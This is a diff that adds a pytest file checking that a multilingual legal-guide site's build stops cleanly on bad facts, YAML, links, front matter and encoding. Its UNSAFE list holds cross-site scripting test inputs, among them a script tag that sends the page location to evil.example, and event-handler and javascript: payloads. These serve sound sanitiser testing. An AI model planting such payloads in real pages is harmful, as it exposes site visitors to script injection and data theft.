@@ -1,0 +1,166 @@
+"""Bad input: each kind makes the build stop with a message naming the file
+(and line), in a temporary copy of the project, without a traceback."""
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from conftest import AS_OF
+
+pytestmark = pytest.mark.build
+
+
+def edit(path: Path, old: str, new: str, count: int = 1) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text, f"{old!r} not in {path}"
+    path.write_text(text.replace(old, new, count), encoding="utf-8")
+
+
+def append(path: Path, line: str) -> None:
+    path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + line + "\n", encoding="utf-8")
+
+
+def write(path: Path, text: str) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+
+
+GUIDE = "docs/es/hogar/aguinaldo.md"
+TRANSLATION = "docs/en/hogar/aguinaldo.md"
+DRAFT = "docs/nah/index.md"
+PAGE = "---\ntitle: Prueba\nlast_reviewed: 2026-11-21\n---\n\n# Prueba\n\n"
+
+# (id, change to the project, text the message must contain)
+CASES = [
+    ("facts-malformed-yaml", lambda p: edit(p / "facts/plazos.yml", "  type: years", "  type: [years"),
+     "facts/plazos.yml:4: this YAML cannot be read"),
+    ("facts-tab-indentation", lambda p: edit(p / "facts/plazos.yml", "  type: years", "\ttype: years"),
+     "facts/plazos.yml:4: this YAML cannot be read"),
+    ("locales-malformed-yaml", lambda p: edit(p / "locales/en.yml", '  fact.source: "Source"', '  fact.source: "Source'),
+     "locales/en.yml:"),
+    ("locales-unknown-key", lambda p: edit(p / "locales/en.yml", "  fact.source:", "  fact.sorce:"),
+     "'site.fact.sorce' does not exist in es.yml"),
+    ("locales-html", lambda p: edit(p / "locales/en.yml", '"Source"', '"<b>Source</b>"'),
+     "HTML is not allowed in UI strings"),
+    ("fact-unknown-type", lambda p: edit(p / "facts/plazos.yml", "  type: years", "  type: año"),
+     "facts/plazos.yml:4: fact 'prescripcion.general': 'type' must be one of"),
+    ("fact-value-wrong-type", lambda p: edit(p / "facts/plazos.yml", "  value: 1\n", '  value: "uno"\n'),
+     "facts/plazos.yml:13: fact 'prescripcion.general': the value of a years fact must be a number"),
+    ("fact-no-source", lambda p: edit(p / "facts/prestaciones.yml", "  sources:\n    - title: \"IMCP", "  fuentes:\n    - title: \"IMCP"),
+     "fact 'aguinaldo.dias': unknown field 'fuentes'"),
+    ("fact-no-legal-basis", lambda p: edit(p / "facts/plazos.yml", "  legal_basis:\n    - law: Ley Federal del Trabajo\n      article: \"516\"\n", ""),
+     "fact 'prescripcion.general': needs its legal basis"),
+    ("fact-overlapping-dates", lambda p: edit(p / "facts/salarios.yml", "      valid_until: 2025-12-31", "      valid_until: 2026-02-01"),
+     "overlaps the value from 2026-01-01"),
+    ("fact-defined-twice", lambda p: write(p / "facts/zz-copia.yml", (p / "facts/plazos.yml").read_text(encoding="utf-8")),
+     "facts/zz-copia.yml:3: fact 'prescripcion.general' is already defined in facts/plazos.yml:3"),
+    ("fact-key-twice", lambda p: edit(p / "facts/plazos.yml", "  confidence: high\n  value: 1\n", "  confidence: high\n  confidence: low\n  value: 1\n"),
+     "facts/plazos.yml:13: this YAML cannot be read (the key 'confidence' appears twice)"),
+    ("fact-bad-phone", lambda p: edit(p / "facts/contactos.yml", '"800 717 2942"', '"800 717 294"'),
+     "'800 717 294' is not a valid phone number"),
+    ("fact-bad-date", lambda p: edit(p / "facts/plazos.yml", "last_verified: 2026-11-21", "last_verified: ayer"),
+     "'last_verified' must be a date"),
+    ("unknown-fact-spanish", lambda p: append(p / GUIDE, "Son {{ aguinaldo.dia }}."),
+     "docs/es/hogar/aguinaldo.md:"),
+    ("unknown-fact-translation", lambda p: append(p / DRAFT, "It is {{ aguinaldo.dia }}."),
+     "docs/nah/index.md:"),
+    ("malformed-fact-reference", lambda p: append(p / GUIDE, "Son {{ aguinaldo dias }}."),
+     "is not a fact reference"),
+    ("unknown-fact-option", lambda p: append(p / GUIDE, "Son {{ aguinaldo.dias | despues }}."),
+     "unknown option '| despues'"),
+    ("table-fact-inline", lambda p: append(p / GUIDE, "Mira {{ vacaciones.por_antiguedad }} aquí."),
+     "must be alone on its own line"),
+    ("front-matter-invalid", lambda p: edit(p / GUIDE, "title: El aguinaldo", "title: [El aguinaldo"),
+     "docs/es/hogar/aguinaldo.md:2: the header (between the '---' lines) is not valid YAML"),
+    ("front-matter-unclosed", lambda p: write(p / "docs/es/hogar/nueva.md", "---\ntitle: Nueva\n\n# Nueva\n\nTexto.\n"),
+     "docs/es/hogar/nueva.md:1: the header starts with '---' but has no closing '---' line"),
+    ("front-matter-bad-status", lambda p: edit(p / DRAFT, "status: draft", "status: lista"),
+     "translation.status must be 'draft' or 'reviewed'"),
+    ("front-matter-bad-review-date", lambda p: edit(p / GUIDE, "last_reviewed: 2026-11-21", "last_reviewed: pronto"),
+     "docs/es/hogar/aguinaldo.md: 'last_reviewed' must be a date"),
+    ("link-missing-page-spanish", lambda p: append(p / GUIDE, "[x](no-existe.md)"),
+     "(language: es) the link 'no-existe.md' points to a page that does not exist"),
+    ("link-missing-anchor-spanish", lambda p: append(p / GUIDE, "[x](salario.md#no-existe)"),
+     "(language: es) the link 'salario.md#no-existe' points to a section '#no-existe'"),
+    ("link-missing-page-translation", lambda p: append(p / DRAFT, "[x](hogar/no-existe.md)"),
+     "docs/nah/index.md:"),
+    ("link-missing-anchor-translation", lambda p: append(p / DRAFT, "[x](hogar/salario.md#no-existe)"),
+     "(language: nah) the link 'hogar/salario.md#no-existe'"),
+    ("audio-missing", lambda p: append(p / GUIDE, '<audio controls src="audio/aguinaldo.mp3"></audio>'),
+     "the link 'audio/aguinaldo.mp3' points to a page that does not exist"),
+    ("language-folder-not-configured", lambda p: write(p / "docs/zap/index.md", PAGE + "Texto.\n"),
+     "docs/zap: the folder 'zap' is not a language in mkdocs.yml"),
+    ("page-outside-language-folder", lambda p: write(p / "docs/suelta.md", PAGE + "Texto.\n"),
+     "docs/suelta.md: files go inside a language folder"),
+    ("empty-page", lambda p: write(p / "docs/es/hogar/vacia.md", "---\ntitle: Vacía\n---\n\n"),
+     "docs/es/hogar/vacia.md:4: the page is empty"),
+    ("not-utf8-page", lambda p: (p / "docs/es/hogar/latin1.md").write_bytes(PAGE.encode() + "Año\n".encode("latin-1")),
+     "docs/es/hogar/latin1.md:8: this file is not valid UTF-8"),
+    ("not-utf8-facts", lambda p: (p / "facts/zz-latin1.yml").write_bytes("x:\n  note: \"año\"\n".encode("latin-1")),
+     "facts/zz-latin1.yml:2: this file is not valid UTF-8"),
+    ("parity-broken-reviewed-translation", lambda p: edit(p / TRANSLATION, "{{ aguinaldo.dias }}", "15 days"),
+     "docs/en/hogar/aguinaldo.md:"),
+    ("settings-bad-as-of", lambda p: edit(p / "mkdocs.yml", "as_of: !ENV [DC_AS_OF, null]", "as_of: mañana"),
+     "mkdocs.yml: extra.derechos.as_of"),
+    ("language-tag-invalid", lambda p: edit(p / "mkdocs.yml", "locale: mix", "locale: mixteco"),
+     "'mixteco' is not a registered BCP 47 language tag"),
+]
+
+UNSAFE = [
+    ("script", "<script>fetch('https://evil.example/?p=' + location)</script>", "<script>"),
+    ("iframe", '<iframe src="https://evil.example"></iframe>', "<iframe>"),
+    ("object", '<object data="x.swf"></object>', "<object>"),
+    ("embed", '<embed src="x.swf">', "<embed>"),
+    ("on-attribute", '<img src="../assets/x.png" onerror="alert(1)">', "attributes that start with 'on'"),
+    ("on-attribute-multiline", '<a href="#cuanto"\n   onmouseover="alert(1)">x</a>', "attributes that start with 'on'"),
+    ("javascript-link", "[pulsa](javascript:alert(1))", "may not use 'javascript:' addresses"),
+    ("javascript-link-entities", "[pulsa](&#106;avascript:alert(1))", "may not use 'javascript:' addresses"),
+    ("data-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "may not use 'data:' addresses"),
+    ("data-html-link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "may not use 'data:' addresses"),
+    ("style-element", "<style>.md-content { display: none }</style>", "<style>"),
+    ("hiding-style-attribute", '<span style="display:none">texto oculto</span>', "a style that hides text"),
+]
+
+
+def run(project: Path, *args: str):
+    return subprocess.run(
+        [sys.executable, "-m", "build_tools", "build", "--as-of", AS_OF.isoformat(), *args],
+        cwd=project, capture_output=True, text=True, timeout=300,
+    )
+
+
+def assert_fails_cleanly(project: Path, expected: str):
+    result = run(project)
+    output = result.stdout + result.stderr
+    assert result.returncode != 0, output[-2000:]
+    assert expected in output, output[-3000:]
+    assert "Traceback" not in output
+    assert not (project / "site").exists()
+
+
+def test_the_matrix_has_at_least_thirty_kinds():
+    assert len(CASES) + len(UNSAFE) >= 30
+
+
+@pytest.mark.parametrize("change, expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
+def test_bad_input_fails_with_file_and_line(project_copy, change, expected):
+    change(project_copy)
+    assert_fails_cleanly(project_copy, expected)
+
+
+@pytest.mark.parametrize("snippet, expected", [u[1:] for u in UNSAFE], ids=[u[0] for u in UNSAFE])
+def test_unsafe_html_is_rejected_with_file_and_line(project_copy, snippet, expected):
+    path = project_copy / GUIDE
+    line = path.read_text(encoding="utf-8").rstrip("\n").count("\n") + 3
+    append(path, snippet)
+    assert_fails_cleanly(project_copy, f"docs/es/hogar/aguinaldo.md:{line}:")
+    assert_fails_cleanly(project_copy, expected)
+
+
+def test_debug_mode_shows_more(project_copy):
+    append(project_copy / GUIDE, "{{ aguinaldo.dia }}")
+    result = run(project_copy, "--debug")
+    assert result.returncode != 0
+    assert "DEBUG" in result.stdout + result.stderr
